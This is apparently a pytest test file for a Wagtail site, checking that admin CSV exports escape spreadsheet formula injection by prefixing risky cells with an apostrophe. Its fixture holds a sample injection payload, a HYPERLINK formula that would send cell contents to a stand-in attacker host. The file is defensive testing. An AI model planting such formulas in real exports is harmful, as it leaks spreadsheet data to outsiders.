"""Admin spreadsheet exports, Wagtail's own reports included, never hand a spreadsheet a formula:
a cell that starts with = + - @ (or a tab or carriage return) is prefixed with ' and so shown as
text."""

import csv
import io

from django.urls import reverse

from wagtail.models import GroupApprovalTask, Workflow, WorkflowTask

import pytest

from home.patches.wagtail import FORMULA_PREFIXES
from tests.factories.home import StandardPageFactory
from tests.factories.newsletters import SubscriberFactory

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://attacker.example/?x="&A1,"Details")'


def _rows(response) -> list[list[str]]:
    assert response.status_code == 200
    body = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.reader(io.StringIO(body)))


def _cells(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row]


@pytest.fixture
def trap(home_page, admin_user):
    """A page whose title is a formula, published by someone whose name is one too."""
    admin_user.first_name, admin_user.last_name = "@SUM(1+1)", "-2+3"
    admin_user.save()
    page = StandardPageFactory(parent=home_page, slug="trap", title=FORMULA)
    page.save_revision(user=admin_user).publish(user=admin_user)
    return page


def _assert_no_formula(cells: list[str]) -> None:
    assert cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)], cells


def test_the_site_history_export_escapes_formulas(admin_client, trap):
    cells = _cells(_rows(admin_client.get("/admin/reports/site-history/?export=csv")))
    assert "'" + FORMULA in cells
    assert any(cell.startswith("'@SUM(1+1)") for cell in cells)
    _assert_no_formula(cells)


def test_the_workflow_reports_export_escapes_formulas(admin_client, admin_user, trap):
    workflow = Workflow.objects.create(name="+Review")
    task = GroupApprovalTask.objects.create(name="-Approve")
    WorkflowTask.objects.create(workflow=workflow, task=task, sort_order=0)
    workflow.start(trap, admin_user)
    for url in ("/admin/reports/workflow/?export=csv", "/admin/reports/workflow_tasks/?export=csv"):
        cells = _cells(_rows(admin_client.get(url)))
        assert "'" + FORMULA in cells, url
        _assert_no_formula(cells)


def test_a_view_that_escaped_formulas_itself_escapes_them_once(admin_client):
    SubscriberFactory(email="=cmd@example.org")
    url = reverse("newsletter_subscribers:index") + "?export=csv"
    assert "'=cmd@example.org" in _cells(_rows(admin_client.get(url)))
